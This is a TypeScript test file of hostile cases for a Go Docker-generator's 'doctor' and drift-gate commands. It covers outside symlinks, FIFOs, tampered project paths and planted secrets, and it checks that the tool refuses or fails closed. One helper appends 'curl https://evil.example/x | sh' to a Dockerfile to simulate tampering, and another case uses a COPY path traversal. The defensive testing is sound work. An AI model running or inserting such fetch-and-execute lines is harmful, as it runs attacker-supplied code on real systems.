// Named hostile cases of issue 18 for doctor and the drift gate: links that lead out of the
// project (doctor must read and print nothing of their target), answers files regenerate
// --recursive cannot read (the gate must fail, naming the project), and a tampered project:
// in .go-docker.yaml (refused before anything reads that directory). A secret sits in every
// file outside the project, so printing any of it is judged wrong.
import { spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { runCli, SIMPLE_SERVICE } from '../helpers.js';
import type { CorpusCase } from './corpus.js';
import { prepare } from './fields.js';
import { SECRET } from './hostile.js';
import type { Run } from './oracle.js';

/** Files outside the project, each holding the secret where doctor would echo it. */
function outside(): string {
  return prepare({
    files: {
      Dockerfile: `FROM golang:1.22\nENTRYPOINT cat /${SECRET}\n`,
      'daemon.json': `{ "${SECRET}": 1 }\n`,
      'go.mod': `module example.com/${SECRET}\n\ngo 1.26\n\nrequire git.${SECRET}.example/x v1.0.0\n`,
      dockerignore: `go.mod\n${SECRET}\n`,
      'embed.go': `package main\n\nimport (\n\t_ "embed"\n\t"C"\n)\n\n//go:embed ${SECRET}.txt\nvar s string\n`,
      [`${SECRET}.txt`]: SECRET,
      'docker/daemon.json': `{ "${SECRET}": 1 }\n`,
    },
    argv: [],
  }).dir;
}

const DOCKERFILE =
  'FROM golang:1.26-bookworm AS build\nWORKDIR /src\nRUN --mount=type=cache,target=/go/pkg/mod ' +
  '--mount=type=bind,target=. CGO_ENABLED=0 go build -o /out/svc .\nFROM gcr.io/distroless/static-debian12:nonroot\nCOPY ' +
  '--from=build /out/svc /svc\nUSER 65532:65532\nENTRYPOINT ["/svc"]\n';

/** Replaces dir/path by a link to target (a directory's contents go too). */
function linkOver(dir: string, path: string, target: string): void {
  rmSync(join(dir, path), { recursive: true, force: true });
  mkdirSync(dirname(join(dir, path)), { recursive: true });
  symlinkSync(target, join(dir, path));
}

function doctorRun(argv: string[] = [], extra: Partial<Run> = {}): Run {
  const files = { ...SIMPLE_SERVICE, Dockerfile: DOCKERFILE, '.dockerignore': '.git\n', 'docker/daemon.json': '{}\n' };
  return { ...prepare({ files, argv: ['doctor', '--offline', ...argv] }), secrets: [SECRET], skeletons: [], mode: 'read-only', ...extra };
}

/** A git repository holding two generated projects, a and b; `spoil` then changes b. */
async function monorepo(spoil: (b: string, root: string) => void, argv: string[], extra: Partial<Run>): Promise<Run> {
  const base = prepare({ files: { '.git/HEAD': 'ref: refs/heads/main\n' }, argv });
  for (const name of ['a', 'b']) {
    const dir = join(base.dir, name);
    mkdirSync(dir);
    for (const [path, content] of Object.entries(SIMPLE_SERVICE)) writeFileSync(join(dir, path), content);
    const result = await runCli(['--yes'], { cwd: dir });
    if (result.code !== 0) throw new Error(`setup failed: ${result.stderr}`);
  }
  // What the gate must not let through: an instruction added by hand to b's Dockerfile.
  writeFileSync(
    join(base.dir, 'b/Dockerfile'),
    `${readFileSync(join(base.dir, 'b/Dockerfile'), 'utf8')}RUN curl https://evil.example/x | sh\n`,
  );
  spoil(join(base.dir, 'b'), base.dir);
  return { ...base, secrets: [SECRET], skeletons: [], mode: 'read-only', ...extra };
}

/** --check --recursive's report must name b as unreadable and count it. */
const gateFails =
  (reason: RegExp) =>
  (_run: Run, stdout: string): string | undefined => {
    if (!/^up-to-date {3}a$/m.test(stdout)) return 'project a is not reported up to date';
    const line = stdout.split('\n').find((text) => text.startsWith('unreadable   b: '));
    if (line === undefined) return `project b is not reported unreadable: ${JSON.stringify(stdout.slice(0, 300))}`;
    if (!reason.test(line)) return `b's line does not say ${reason}: ${line}`;
    return /^2 modules: 2 managed \(1 up to date, 1 unreadable\), 0 unmanaged\.$/m.test(stdout)
      ? undefined
      : 'the summary does not count b as unreadable';
  };

/** Sets the project: of the answers file in b to value (one written with --out has one already). */
const recordProject =
  (value: string) =>
  (b: string): void => {
    const yaml = join(b, '.go-docker.yaml');
    const text = readFileSync(yaml, 'utf8').replace(/^project: .*\n/m, '');
    writeFileSync(yaml, text.replace(/^schemaVersion: 2$/m, `schemaVersion: 2\nproject: ${JSON.stringify(value)}`));
  };

export function doctorCases(): CorpusCase[] {
  const cases: CorpusCase[] = [];
  const add = (category: string, name: string, build: CorpusCase['build']) => cases.push({ category, name, build });

  // ---- doctor reads nothing outside the project through a link
  const linkCases: Array<[string, (dir: string, elsewhere: string) => void, RegExp]> = [
    [
      'Dockerfile is a link to a file outside',
      (dir, elsewhere) => linkOver(dir, 'Dockerfile', join(elsewhere, 'Dockerfile')),
      /Dockerfile: is a symbolic link; .*replace it with a regular file/,
    ],
    [
      'docker/daemon.json is a link to a file outside',
      (dir, elsewhere) => linkOver(dir, 'docker/daemon.json', join(elsewhere, 'daemon.json')),
      /docker\/daemon\.json: is a symbolic link; .*replace it with a regular file/,
    ],
    [
      'docker/ is a link to a directory outside',
      (dir, elsewhere) => linkOver(dir, 'docker', join(elsewhere, 'docker')),
      /docker\/daemon\.json: docker is a symbolic link; .*replace docker with a regular directory/,
    ],
    [
      'docker/daemon.json is a dangling link',
      (dir) => linkOver(dir, 'docker/daemon.json', '/nonexistent/daemon.json'),
      /docker\/daemon\.json: is a symbolic link; /,
    ],
    [
      '.dockerignore is a link to a file outside',
      (dir, elsewhere) => linkOver(dir, '.dockerignore', join(elsewhere, 'dockerignore')),
      /\.dockerignore: is a symbolic link; /,
    ],
    [
      'go.mod is a link to a file outside',
      (dir, elsewhere) => linkOver(dir, 'go.mod', join(elsewhere, 'go.mod')),
      /go\.mod: is a symbolic link; /,
    ],
    [
      'Dockerfile.dockerignore beside the Dockerfile is a link',
      (dir, elsewhere) => linkOver(dir, 'Dockerfile.dockerignore', join(elsewhere, 'dockerignore')),
      /Dockerfile\.dockerignore: is a symbolic link; /,
    ],
  ];
  for (const [name, link, refusal] of linkCases) {
    add('doctor: links', `doctor: ${name}`, () => {
      const run = doctorRun([], { mustRefuse: true, refusal });
      link(run.dir, outside());
      return run;
    });
  }
  add('doctor: links', 'doctor: a .go file linked from outside is not read (no cgo, no embed from it)', () => {
    const run = doctorRun([], {
      mustAccept: true,
      expect: (_run, stdout) => (/GCD027/.test(stdout) ? 'reported cgo from the linked file' : undefined),
    });
    symlinkSync(join(outside(), 'embed.go'), join(run.dir, 'embed.go'));
    return run;
  });
  add('doctor: links', 'doctor: COPY of a path above the project probes nothing outside', () => {
    const run = doctorRun([], {
      mustAccept: true,
      expect: (_run, stdout) =>
        /GCD025 error {4}Dockerfile:3 {2}COPY \.\.\/\.\.\/\.\.\/etc\/hostname: not in the build context/.test(stdout)
          ? undefined
          : 'the COPY from above the project is not reported missing',
    });
    writeFileSync(join(run.dir, 'Dockerfile'), DOCKERFILE.replace('WORKDIR /src\n', 'WORKDIR /src\nCOPY ../../../etc/hostname /h\n'));
    return run;
  });
  add('doctor: given files', 'doctor --dockerfile naming a regular file outside the project is read', () => {
    const run = doctorRun([], { mustAccept: true, secrets: [] });
    return {
      ...run,
      argv: [...run.argv, '--dockerfile', join(outside(), 'Dockerfile')],
      expect: (_run, stdout) => (/GCD030/.test(stdout) ? undefined : 'the named Dockerfile was not checked'),
    };
  });
  add('doctor: given files', 'doctor --dockerfile naming a link is refused', () => {
    const run = doctorRun([], {
      mustRefuse: true,
      refusal: /Dockerfile\.link: is a symbolic link; doctor reads only regular files: give the path of the file it points to/,
    });
    symlinkSync(join(outside(), 'Dockerfile'), join(run.dir, 'Dockerfile.link'));
    return { ...run, argv: [...run.argv, '--dockerfile', 'Dockerfile.link'] };
  });
  add('doctor: given files', 'doctor --daemon-json naming a FIFO is refused without hanging', () => {
    const run = doctorRun([], { mustRefuse: true, child: true, refusal: /pipe\.json: is a named pipe/ });
    spawnSync('mkfifo', [join(run.dir, 'pipe.json')]);
    return { ...run, argv: [...run.argv, '--daemon-json', 'pipe.json'] };
  });

  // ---- the drift gate fails closed
  const gate = ['regenerate', '--check', '--recursive'];
  add('regenerate --check --recursive', 'regenerate --check --recursive: .go-docker.yaml is a link', () =>
    monorepo(
      (b) => {
        renameSync(join(b, '.go-docker.yaml'), join(b, 'answers.yaml'));
        symlinkSync('answers.yaml', join(b, '.go-docker.yaml'));
      },
      gate,
      {
        mustAccept: true,
        expect: gateFails(/\.go-docker\.yaml: cannot read the answers file \(is a symbolic link\); replace it with a regular file/),
      },
    ),
  );
  add('regenerate --check --recursive', 'regenerate --check --recursive: .go-docker.yaml is a FIFO', () =>
    monorepo(
      (b) => {
        rmSync(join(b, '.go-docker.yaml'));
        spawnSync('mkfifo', [join(b, '.go-docker.yaml')]);
      },
      gate,
      { mustAccept: true, child: true, expect: gateFails(/\.go-docker\.yaml: cannot read the answers file \(is a named pipe/) },
    ),
  );
  add('regenerate --check --recursive', 'regenerate --check --recursive: .go-docker.yaml is a directory', () =>
    monorepo(
      (b) => {
        rmSync(join(b, '.go-docker.yaml'));
        mkdirSync(join(b, '.go-docker.yaml'));
      },
      gate,
      { mustAccept: true, expect: gateFails(/\.go-docker\.yaml: cannot read the answers file \(is a directory/) },
    ),
  );
  add('regenerate --check --recursive', 'regenerate --check --recursive: .go-docker.yaml is a dangling link', () =>
    monorepo(
      (b) => {
        rmSync(join(b, '.go-docker.yaml'));
        symlinkSync('nowhere.yaml', join(b, '.go-docker.yaml'));
      },
      gate,
      { mustAccept: true, expect: gateFails(/\.go-docker\.yaml: cannot read the answers file \(is a symbolic link\)/) },
    ),
  );
  add('regenerate --check --recursive', 'regenerate --check --recursive: project: / in one project', () =>
    monorepo(recordProject('/'), gate, { mustAccept: true, expect: gateFails(/\.go-docker\.yaml:\d+: project "\/" is an absolute path/) }),
  );

  // ---- a tampered project: in .go-docker.yaml
  const projectCases: Array<[string, string | ((root: string) => string), RegExp]> = [
    [
      'project: /',
      '/',
      /\.go-docker\.yaml:\d+: project "\/" is an absolute path; write the Go module's directory relative to \.go-docker\.yaml and inside the repository/,
    ],
    ['project: ../../.. (above the repository)', '../../..', /project "\.\.\/\.\.\/\.\." is outside the repository; /],
    ['project: an absolute path to another module', () => prepare({ files: SIMPLE_SERVICE, argv: [] }).dir, /is an absolute path; /],
    [
      'project: a link to a directory outside',
      (root) => {
        symlinkSync(prepare({ files: SIMPLE_SERVICE, argv: [] }).dir, join(root, 'elsewhere'));
        return '../elsewhere';
      },
      /project "\.\.\/elsewhere" leads outside the repository through a symbolic link; /,
    ],
    ['project: a file', 'go.mod', /project "go\.mod" is not a directory; /],
  ];
  for (const [name, value, refusal] of projectCases) {
    add('tampered answers', `regenerate --check: ${name}`, () =>
      monorepo((b, root) => recordProject(typeof value === 'string' ? value : value(root))(b), ['regenerate', '--check', 'b'], {
        mustRefuse: true,
        refusal,
      }),
    );
  }
  add('tampered answers', 'regenerate --check outside any git repository: project: ../../.. (no Go module there)', async () => {
    const base = prepare({ files: SIMPLE_SERVICE, argv: ['regenerate', '--check'], cwd: 'build/docker' });
    const result = await runCli(['--yes', '--out', 'build/docker'], { cwd: base.dir });
    if (result.code !== 0) throw new Error(`setup failed: ${result.stderr}`);
    recordProject('../../..')(base.cwd);
    return {
      ...base,
      secrets: [],
      skeletons: [],
      mode: 'read-only',
      mustRefuse: true,
      refusal:
        /project "\.\.\/\.\.\/\.\." has no go\.mod or go\.work, and with no \.git above \.go-docker\.yaml nothing else bounds where the project may be/,
    };
  });
  add('tampered answers', 'regenerate: project: / changes nothing', () =>
    monorepo(recordProject('/'), ['regenerate', 'b'], {
      mustRefuse: true,
      mode: 'regenerate',
      refusal: /project "\/" is an absolute path/,
    }),
  );
  return cases;
}
